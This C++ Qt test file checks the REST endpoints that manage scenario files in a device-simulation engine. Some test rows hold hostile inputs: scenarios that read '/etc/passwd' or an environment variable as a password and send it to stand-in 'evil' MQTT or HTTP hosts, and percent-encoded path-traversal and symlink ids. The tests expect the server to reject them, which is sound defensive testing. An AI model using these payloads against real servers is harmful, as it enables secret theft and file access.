// SPDX-License-Identifier: GPL-3.0-or-later
#include "base/file.h"
#include "engine/engine.h"
#include "rest/client.h"
#include "rest/restserver.h"
#include "support/testprogram.h"

#include <QDir>
#include <QJsonArray>
#include <QTemporaryDir>

using namespace Standin;
using namespace Standin::Rest;
using namespace Qt::StringLiterals;

/// /api/v1/scenarios.
class TestScenariosApi : public QObject
{
    Q_OBJECT

private slots:
    void init();
    void cleanup();

    void listsWithFaults();
    void listsInPages();
    void showsTheBytesOfTheFile();
    void storesAndReplaces();
    void whatIsStoredIsConfined();
    void obeysPreconditions();
    void removes();
    void aScenarioWithFaultsChangesNothing_data();
    void aScenarioWithFaultsChangesNothing();
    void aBodyThatIsNoScenario_data();
    void aBodyThatIsNoScenario();
    void takesNoSecretsAndNoFilesFromElsewhere_data();
    void takesNoSecretsAndNoFilesFromElsewhere();
    void staysInTheFolder_data();
    void staysInTheFolder();
    void checksWithoutStoring();
    void withoutAFolder();

private:
    /// ' stands for ".
    [[nodiscard]] static QByteArray scenario(QByteArray members);
    [[nodiscard]] QString path(const QString &name) const { return m_root->filePath(u"s/"_s + name); }
    bool write(const QString &name, const QByteArray &bytes) const
    {
        return File::writeAtomically(path(name), bytes).has_value();
    }
    Answer put(const QString &id, const QByteArray &body, const Client::Fields &fields = {})
    {
        return m_client->call("PUT", u"/api/v1/scenarios/"_s + id, body, fields);
    }
    Answer get(const QString &id) { return m_client->get(u"/api/v1/scenarios/"_s + id); }
    void start(const QString &folder);

    const QByteArray m_right = scenario("'devices':{'gw':{'profile':{}}},'steps':[{'connect':'gw'},"
                                        "{'expect':{'device':'gw'}}]");
    std::unique_ptr<QTemporaryDir> m_root; ///< the folder "s" in it has the scenarios
    std::unique_ptr<Engine> m_engine;
    std::unique_ptr<RestServer> m_server;
    std::unique_ptr<Client> m_client;
};

QByteArray TestScenariosApi::scenario(QByteArray members)
{
    return R"({"format":"standin.scenario/1",)" + members.replace('\'', '"') + '}';
}

void TestScenariosApi::start(const QString &folder)
{
    cleanup();
    m_engine = std::make_unique<Engine>(EngineOptions{.workers = 1, .scenarios = folder});
    m_server = std::make_unique<RestServer>(*m_engine, RestOptions{.port = 0});
    const auto url = m_server->listen();
    QVERIFY(url);
    m_client = std::make_unique<Client>(*url);
}

void TestScenariosApi::init()
{
    m_root = std::make_unique<QTemporaryDir>();
    QVERIFY(QDir().mkpath(path(u"sub"_s)));
    start(m_root->filePath(u"s"_s));
}

void TestScenariosApi::cleanup()
{
    m_client.reset();
    m_server.reset();
    m_engine.reset();
}

void TestScenariosApi::listsWithFaults()
{
    QVERIFY(write(u"sub/right.scenario.json"_s, m_right));
    QVERIFY(write(u"wrong.scenario.json"_s,
                  scenario("'name':'W','description':'d','tags':['a','b'],'confined':true,'steps':[{'connect':'x'},"
                           "{'include':'sub/i.json'}]")));
    QVERIFY(write(u"sub/i.json"_s, scenario("'steps':[{'wai':1}]")));
    QVERIFY(write(u"broken.scenario.json"_s, "{"));
    QVERIFY(write(u"profile.json"_s, "{}"));
    const Answer answer = m_client->get(u"/api/v1/scenarios"_s);
    QCOMPARE(answer.status, 200);
    const QJsonArray all = answer.json()[u"scenarios"_s].toArray();
    QCOMPARE(all.size(), 3);
    QCOMPARE(all[0][u"id"_s].toString(), u"broken"_s);
    QCOMPARE(all[0][u"faults"_s].toArray().size(), 1);
    QCOMPARE(all[1][u"id"_s].toString(), u"sub/right"_s);
    QCOMPARE(all[1][u"name"_s].toString(), u"right"_s);
    QCOMPARE(all[1][u"faults"_s].toArray(), QJsonArray());
    QCOMPARE(all[1][u"confined"_s].toBool(true), false);
    QCOMPARE(all[2][u"name"_s].toString(), u"W"_s);
    QCOMPARE(all[2][u"description"_s].toString(), u"d"_s);
    QCOMPARE(all[2][u"tags"_s].toArray(), (QJsonArray{u"a"_s, u"b"_s}));
    QCOMPARE(all[2][u"confined"_s].toBool(), true);
    QStringList places;
    for (const auto &fault : all[2][u"faults"_s].toArray())
        places.append(fault[u"where"_s].toString());
    QVERIFY2(!answer.body.contains(m_root->path().toUtf8()), answer.body.constData()); // no paths of this machine
    QCOMPARE(places, (QStringList{u"sub/i.json: /steps/0"_s}));
}

void TestScenariosApi::listsInPages()
{
    for (const QString &name : {u"c"_s, u"a"_s, u"b"_s, u"sub/d"_s})
        QVERIFY(write(name + u".scenario.json"_s, m_right));
    const QJsonObject first = m_client->get(u"/api/v1/scenarios?limit=2"_s).json();
    QCOMPARE(first[u"scenarios"_s].toArray().size(), 2);
    QVERIFY(first[u"more"_s].toBool());
    QCOMPARE(first[u"next"_s].toString(), u"b"_s);
    const QJsonObject rest = m_client->get(u"/api/v1/scenarios?limit=2&after=b"_s).json();
    QCOMPARE(rest[u"scenarios"_s][0][u"id"_s].toString(), u"c"_s);
    QCOMPARE(rest[u"scenarios"_s][1][u"id"_s].toString(), u"sub/d"_s);
    QVERIFY(!rest.contains(u"more"_s));
    QCOMPARE(m_client->get(u"/api/v1/scenarios?after=z"_s).json()[u"scenarios"_s].toArray(), QJsonArray());
}

void TestScenariosApi::showsTheBytesOfTheFile()
{
    const QByteArray text = "{ \"format\":\"standin.scenario/1\",\n\t\"steps\" : [ ], \"vars\":{\"n\":1.50} }\r\n";
    QVERIFY(write(u"sub/a b.scenario.json"_s, text));
    const Answer answer = get(u"sub%2Fa%20b"_s);
    QCOMPARE(answer.status, 200);
    QCOMPARE(answer.body, text);
    QVERIFY(!answer.field("ETag").isEmpty());
    const Answer missing = get(u"nothere"_s);
    QCOMPARE(missing.status, 404);
    QCOMPARE(missing.json()[u"type"_s].toString(), u"urn:standin:unknown-scenario"_s);
}

void TestScenariosApi::storesAndReplaces()
{
    const Answer made = put(u"new%2Fone"_s, m_right);
    QVERIFY2(made.status == 201, made.body.constData());
    QCOMPARE(made.field("Location"), "/api/v1/scenarios/new%2Fone"_ba);
    QCOMPARE(made.json()[u"id"_s].toString(), u"new/one"_s);
    QVERIFY(!made.json().contains(u"warnings"_s));
    QCOMPARE(get(u"new%2Fone"_s).field("ETag"), made.field("ETag"));
    QVERIFY(QFileInfo::exists(path(u"new/one.scenario.json"_s)));
    const Answer changed = put(u"new%2Fone"_s, scenario("'steps':[{'wait':500}]"));
    QCOMPARE(changed.status, 200);
    QVERIFY(changed.json()[u"warnings"_s].toArray().size() > 0);
    QVERIFY(changed.field("ETag") != made.field("ETag"));
    QVERIFY(get(u"new%2Fone"_s).body.contains("500"));
}

void TestScenariosApi::whatIsStoredIsConfined()
{
    QCOMPARE(put(u"a"_s, m_right).status, 201);
    const Answer stored = get(u"a"_s);
    QCOMPARE(stored.json()[u"confined"_s].toBool(), true);
    const Answer again = put(u"a"_s, stored.body, {{"If-Match", stored.field("ETag")}});
    QCOMPARE(again.status, 200);
    QCOMPARE(get(u"a"_s).body, stored.body);
    const Answer otherwise = put(u"a"_s, scenario("'confined':false,'steps':[{'wait':0}]"));
    QCOMPARE(otherwise.status, 422);
    QCOMPARE(otherwise.json()[u"faults"_s][0][u"where"_s].toString(), u"/confined"_s);
    QCOMPARE(get(u"a"_s).body, stored.body);
}

void TestScenariosApi::obeysPreconditions()
{
    QCOMPARE(put(u"a"_s, m_right, {{"If-Match", "*"}}).status, 412);
    QVERIFY(!QFileInfo::exists(path(u"a.scenario.json"_s)));
    const QByteArray first = put(u"a"_s, m_right, {{"If-None-Match", "*"}}).field("ETag");
    QCOMPARE(put(u"a"_s, m_right, {{"If-None-Match", "*"}}).status, 412);
    QVERIFY(write(u"a.scenario.json"_s, scenario("'steps':[{'wait':1}]"))); // an editor beside REST
    QCOMPARE(put(u"a"_s, m_right, {{"If-Match", first}}).status, 412);
    QCOMPARE(m_client->call("DELETE", u"/api/v1/scenarios/a"_s, {}, {{"If-Match", first}}).status, 412);
    QVERIFY(get(u"a"_s).body.contains("wait"));
    QCOMPARE(put(u"a"_s, m_right, {{"If-Match", get(u"a"_s).field("ETag")}}).status, 200);
    QCOMPARE(put(u"a"_s, m_right, {{"If-Match", "rubbish"}}).status, 400);
}

void TestScenariosApi::removes()
{
    QCOMPARE(put(u"sub%2Fa"_s, m_right).status, 201);
    QCOMPARE(m_client->call("DELETE", u"/api/v1/scenarios/sub%2Fa"_s).status, 200);
    QVERIFY(!QFileInfo::exists(path(u"sub/a.scenario.json"_s)));
    QCOMPARE(m_client->call("DELETE", u"/api/v1/scenarios/sub%2Fa"_s).status, 404);
}

void TestScenariosApi::aScenarioWithFaultsChangesNothing_data()
{
    QTest::addColumn<QByteArray>("body");
    QTest::addColumn<QStringList>("places");
    const auto row = [](const char *name, const QByteArray &members, const QStringList &places) {
        QTest::newRow(name) << scenario(members) << places;
    };
    row("unknown step", "'steps':[{'conect':'gw'}]", {u"/steps/0"_s});
    row("unknown device", "'steps':[{'connect':'gw'}]", {u"/steps/0/connect"_s});
    row("unknown key", "'teardwon':[],'steps':[{'wait':0}]", {u"/teardwon"_s});
    row("two at once", "'name':5,'steps':[{'wait':'x'}]", {u"/steps/0/wait"_s, u"/name"_s});
    row("missing profile", "'devices':{'d':'nothere.json'},'steps':[{'connect':'d'}]", {u"/devices/d"_s});
    row("missing file of rows", "'rows':'nothere.csv','steps':[{'wait':0}]", {u"/rows"_s});
    QTest::newRow("newer format") << R"({"format":"standin.scenario/2","steps":[]})"_ba << QStringList{u"/format"_s};
    QTest::newRow("no object of a scenario") << "{}"_ba << QStringList{u"/format"_s};
}

void TestScenariosApi::aScenarioWithFaultsChangesNothing()
{
    QFETCH(QByteArray, body);
    QFETCH(QStringList, places);
    QVERIFY(write(u"a.scenario.json"_s, m_right));
    for (const QString &id : {u"a"_s, u"b"_s}) {
        const Answer answer = put(id, body);
        QVERIFY2(answer.status == 422, answer.body.constData());
        QCOMPARE(answer.json()[u"type"_s].toString(), u"urn:standin:scenario-faults"_s);
        QStringList found;
        for (const auto &fault : answer.json()[u"faults"_s].toArray())
            found.append(fault[u"where"_s].toString());
        for (const QString &place : places)
            QVERIFY2(found.join(u' ').contains(place), answer.body.constData());
    }
    QCOMPARE(File::read(path(u"a.scenario.json"_s), 10'000).value_or(QByteArray()), m_right);
    QVERIFY(!QFileInfo::exists(path(u"b.scenario.json"_s)));
}

void TestScenariosApi::aBodyThatIsNoScenario_data()
{
    QTest::addColumn<QByteArray>("body");
    QTest::newRow("no JSON") << "{\"format\":"_ba;
    QTest::newRow("an array") << "[]"_ba;
    QTest::newRow("text") << "steps"_ba;
    QTest::newRow("not UTF-8") << "{\"name\":\"\xff\"}"_ba;
}

void TestScenariosApi::aBodyThatIsNoScenario()
{
    QFETCH(QByteArray, body);
    QCOMPARE(put(u"a"_s, body).status, 400);
    QCOMPARE(m_client->post(u"/api/v1/scenarios:check"_s, body).status, 400);
    QVERIFY(QDir(path(QString())).entryList(QDir::Files).isEmpty());
}

void TestScenariosApi::takesNoSecretsAndNoFilesFromElsewhere_data()
{
    QTest::addColumn<QByteArray>("members");
    QTest::newRow("variable") << "'devices':{'d':{'profile':{'connection':{'password':{'env':'HOME'}}}}}"_ba;
    QTest::newRow("file") << "'devices':{'d':{'profile':{'connection':{'password':{'file':'/etc/passwd'}}}}}"_ba;
    QTest::newRow("by a row")
        << "'rows':[{'c':{'password':{'env':'HOME'}}}],'devices':{'d':{'connection':'${row.c}'}}"_ba;
    QTest::newRow("profile with a secret") << "'devices':{'d':{'profile':'secret.json'}}"_ba;
    QTest::newRow("profile with a secret, sent elsewhere")
        << "'devices':{'d':{'profile':'secret.json','connection':{'url':'mqtt://evil'}}}"_ba;
    QTest::newRow("probe") << "'devices':{'d':{}},'probes':{'p':{'connection':{'password':{'env':'HOME'}}}}"_ba;
    QTest::newRow("header of HTTP")
        << "'devices':{'d':{}},'teardown':[{'http':{'url':'http://evil','headers':{'A':{'env':'HOME'}}}}]"_ba;
    QTest::newRow("profile elsewhere") << "'devices':{'d':'../outside.json'}"_ba;
    QTest::newRow("rows elsewhere") << "'devices':{'d':{}},'rows':'../outside.csv'"_ba;
    QTest::newRow("include elsewhere") << "'devices':{'d':{}},'teardown':[{'include':'../outside.steps.json'}]"_ba;
}

/// Neither to store nor to run it; the file that REST has stored has no more rights later.
void TestScenariosApi::takesNoSecretsAndNoFilesFromElsewhere()
{
    QFETCH(QByteArray, members);
    const QByteArray profile = R"({"format":"standin.profile/1","clientId":"a")";
    QVERIFY(write(u"secret.json"_s, profile + R"(,"connection":{"password":{"env":"HOME"}}})"));
    QVERIFY(write(u"../outside.json"_s, profile + '}'));
    QVERIFY(write(u"../outside.csv"_s, "n\n1\n"));
    QVERIFY(write(u"../outside.steps.json"_s, scenario("'steps':[{'wait':0}]")));
    const QByteArray steps =
        members.contains("'probes'") ? "{'probe':{'name':'p','subscribe':'t'}}" : "{'connect':'d'}";
    const QByteArray body = scenario(members + ",'steps':[" + steps + "]");
    const bool isCheckedOnlyByARun = members.contains("'probes'");
    if (!isCheckedOnlyByARun) {
        const Answer stored = put(u"a"_s, body);
        QVERIFY2(stored.status == 422, stored.body.constData());
        QVERIFY2(stored.body.contains("came by REST") || stored.body.contains("expected a file in the folder"),
                 stored.body.constData());
        const Answer started = m_client->post(u"/api/v1/runs"_s, "{\"scenario\":" + body + '}');
        QVERIFY2(started.status == 422, started.body.constData());
        QVERIFY(m_engine->runs().statuses(0, 10).isEmpty());
    }
    QByteArray confined = body;
    confined.insert(1, R"("confined":true,)"); // as if it had been stored before the profile got its secret
    QVERIFY(write(u"a.scenario.json"_s, confined));
    const Answer later = m_client->post(u"/api/v1/runs"_s, R"({"scenario":"a"})");
    if (isCheckedOnlyByARun) {
        QCOMPARE(later.status, 202);
        const QString run = later.json()[u"run"_s][u"id"_s].toString();
        const QJsonObject state = m_client->get(u"/api/v1/runs/%1?waitMs=20000"_s.arg(run)).json()[u"run"_s].toObject();
        QCOMPARE(state[u"verdict"_s].toString(), u"not-started"_s);
        QVERIFY(state[u"failures"_s][0][u"reason"_s].toString().contains(u"secret of this machine"));
        return;
    }
    QVERIFY2(later.status == 422, later.body.constData());
}

void TestScenariosApi::staysInTheFolder_data()
{
    QTest::addColumn<QString>("id");
    QTest::newRow("up") << u"..%2Fa"_s;
    QTest::newRow("up inside") << u"sub%2F..%2F..%2Fa"_s;
    QTest::newRow("absolute") << u"%2Ftmp%2Fa"_s;
    QTest::newRow("hidden") << u".a"_s;
    QTest::newRow("backslash") << u"..%5Ca"_s;
    QTest::newRow("line break") << u"a%0Ab"_s;
    QTest::newRow("long") << QString(501, u'a');
    QTest::newRow("by a link") << u"out%2Fa"_s;
}

void TestScenariosApi::staysInTheFolder()
{
    QFETCH(QString, id);
    QVERIFY(QFile::link(m_root->path(), path(u"out"_s)));
    QVERIFY(File::writeAtomically(m_root->filePath(u"a.scenario.json"_s), m_right));
    for (const QByteArray &method : {"GET"_ba, "PUT"_ba, "DELETE"_ba}) {
        const Answer answer = m_client->call(method, u"/api/v1/scenarios/"_s + id, method == "PUT" ? m_right : ""_ba);
        QVERIFY2(answer.status == 400, answer.body.constData());
    }
    QByteArray decoded = QByteArray::fromPercentEncoding(id.toLatin1());
    decoded.replace("\\", "\\\\").replace("\n", "\\n");
    QCOMPARE(m_client->post(u"/api/v1/runs"_s, R"({"scenario":")" + decoded + R"("})").status, 400);
    QCOMPARE(File::read(m_root->filePath(u"a.scenario.json"_s), 10'000).value_or(QByteArray()), m_right);
}

void TestScenariosApi::checksWithoutStoring()
{
    const Answer right = m_client->post(u"/api/v1/scenarios:check"_s, m_right);
    QCOMPARE(right.status, 200);
    QCOMPARE(right.json(), (QJsonObject{{u"faults"_s, QJsonArray()}, {u"warnings"_s, QJsonArray()}}));
    const Answer wrong = m_client->post(u"/api/v1/scenarios:check"_s, scenario("'steps':[{'connect':'x'}]"));
    QCOMPARE(wrong.status, 200);
    QCOMPARE(wrong.json()[u"faults"_s][0][u"where"_s].toString(), u"/steps/0/connect/device"_s);
    QVERIFY(wrong.json()[u"warnings"_s].toArray().size() > 0);
    QVERIFY(QDir(path(QString())).entryList(QDir::Files).isEmpty());
}

void TestScenariosApi::withoutAFolder()
{
    start({});
    QCOMPARE(m_client->get(u"/api/v1/scenarios"_s).json()[u"scenarios"_s].toArray(), QJsonArray());
    const Answer written = put(u"a"_s, m_right);
    QCOMPARE(written.status, 422);
    QVERIFY2(written.body.contains("--scenarios DIR"), written.body.constData());
    const Answer read = get(u"a"_s);
    QCOMPARE(read.status, 404);
    QVERIFY2(read.body.contains("--scenarios DIR"), read.body.constData());
    QCOMPARE(m_client->post(u"/api/v1/runs"_s, "{}").status, 422);
    QCOMPARE(m_client->post(u"/api/v1/scenarios:check"_s, m_right).status, 200);
}

STANDIN_TEST(TestScenariosApi)
#include "tst_scenariosapi.moc"
